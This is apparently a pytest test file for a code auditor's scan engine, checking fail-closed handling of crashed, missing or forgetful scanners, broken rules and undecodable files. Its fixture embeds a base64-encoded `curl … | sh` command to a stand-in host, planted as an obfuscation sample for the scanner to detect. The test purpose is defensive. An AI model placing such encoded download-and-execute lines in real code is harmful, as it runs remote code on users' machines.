"""Fail closed: a crashed, missing or forgetful scanner, a broken rule, an undecodable file — each
leaves the files concerned not checked and the scan INCOMPLETE; nothing unchecked reads clean."""

from __future__ import annotations

import base64
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest
from scancase import FORK, bundle_of, workspace
from support import GitRepo

from auditor.model import Category, Scope, StageStatus, Workspace
from auditor.policy import load_policy
from auditor.scan.bandit import BanditScanner
from auditor.scan.builtin import BuiltinScanner
from auditor.scan.engine import ScanConfig, run_scan
from auditor.scan.interface import Scanner, ScannerRun, ScanTarget
from auditor.scan.semgrep import SemgrepScanner
from auditor.spec import POLICIES_DIR

BLOB = base64.b64encode(b"import os\nos.system('curl -s http://x.example/a | sh')\n" * 5).decode()


class ExplodingScanner(Scanner):
    name = "exploding"

    def version(self) -> str:
        return "1"

    def options_key(self) -> str:
        return "x"

    def accepts(self, target: ScanTarget) -> bool:
        return True

    def scan(self, files: Sequence[ScanTarget], workdir: Path) -> ScannerRun:
        raise RuntimeError("segfault in the parser")


class ForgetfulScanner(ExplodingScanner):
    name = "forgetful"

    def coverage(self, target: ScanTarget) -> str | None:
        return "forgetful:python"  # it stands for a scanner with Python rules

    def scan(self, files: Sequence[ScanTarget], workdir: Path) -> ScannerRun:
        keep = [t for t in files if not t.path.endswith("util.py")]
        return ScannerRun(findings={t.key: () for t in keep}, errors={})


@dataclass
class Small:
    ws: Workspace
    commit: str
    tmp: Path

    def scan(self, scanners: Sequence[Scanner], name: str, scope: Scope = Scope.DIFF):
        config = ScanConfig(scope=scope, policy=load_policy(POLICIES_DIR / "default.toml"),
                            cache_dir=None, jobs=2)
        work = self.tmp / name
        work.mkdir()
        return run_scan(self.ws, scanners, config, work)


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Small:
    tmp = tmp_path_factory.mktemp("scan-failclosed")
    repo = GitRepo(tmp / "engine")
    repo.commit("initial", files={"engine/__init__.py": "", "engine/util.py": "X = 1\n"})
    repo.tag("v1.0.0")
    repo.checkout("series", new=True)
    c1 = repo.commit("helpers", files={"engine/util.py": "X = 1\nY = 2\n",
                                       "engine/run.py": "import os\nos.system('true')\n"},
                     author=FORK)
    bundle = bundle_of(repo, "series", tmp / "bundle")
    # the bundle is not exactly the series: one undecodable file, one line no commit explains
    (bundle / "engine" / "latin.py").write_bytes(b"# caf\xe9\nZ = 3\n")
    (bundle / "engine" / "util.py").write_text(f"X = 1\nBLOB = \"{BLOB}\"\nY = 2\n")
    return Small(ws=workspace(repo, "v1.0.0", "series", bundle), commit=c1, tmp=tmp)


def test_scanner_crash_leaves_its_files_not_checked(small: Small):
    r = small.scan([BuiltinScanner(), ExplodingScanner()], "crash")
    assert r.status is StageStatus.INCOMPLETE
    crashed = [n for n in r.not_checked if "exploding crashed" in n]
    assert {n.split(":")[0] for n in crashed} == {"engine/util.py", "engine/run.py"}
    assert r.to_json()["checked_files"] == []


def test_missing_tool_is_not_checked(small: Small):
    bandit = BanditScanner()
    bandit._exe = str(small.tmp / "no-such-bandit")
    r = small.scan([bandit], "missing")
    assert r.status is StageStatus.INCOMPLETE
    assert r.to_json()["scanners"] == {"bandit": "unavailable"}
    assert any(n.startswith("engine/run.py:") and "bandit" in n for n in r.not_checked)


def test_scanner_that_forgets_a_file(small: Small):
    r = small.scan([ForgetfulScanner()], "forgetful")
    assert any(n.startswith("engine/util.py:") and "no result" in n for n in r.not_checked)
    assert "engine/run.py" in r.to_json()["checked_files"]


def test_undecodable_file_and_unexplained_line(small: Small):
    r = small.scan([BuiltinScanner()], "text")
    (latin,) = [n for n in r.not_checked if n.startswith("engine/latin.py:")]
    assert "UTF-8" in latin
    (f,) = [f for f in r.findings if f.category is Category.OBFUSCATION]
    assert (f.path, f.line, f.commit) == ("engine/util.py", 2, None)
    assert "no listed commit explains" in f.message


def test_bandit_finds_os_system_attributed(small: Small):
    r = small.scan([BanditScanner()], "bandit")
    (f,) = [f for f in r.findings if f.path == "engine/run.py"]
    assert (f.category, f.line, f.commit) == (Category.PROCESS_EXEC, 2, small.commit)
    assert f.rule == "process-exec.bandit.b605-os-system"


def test_semgrep_rule_error_leaves_every_file_not_checked(small: Small, tmp_path: Path):
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "bad.yaml").write_text(
        "rules:\n  - id: network.python.broken\n    languages: [python]\n    severity: ERROR\n"
        "    message: broken\n    metadata:\n      category: network\n      severity: high\n"
        "      help: a rule whose pattern does not parse at all\n"
        "    pattern: requests.get((\n")
    r = small.scan([SemgrepScanner(rules)], "rule-error")
    assert r.status is StageStatus.INCOMPLETE
    assert {n.split(":")[0] for n in r.not_checked} >= {"engine/util.py", "engine/run.py"}
    assert all("semgrep" in n for n in r.not_checked if not n.startswith("engine/latin.py"))
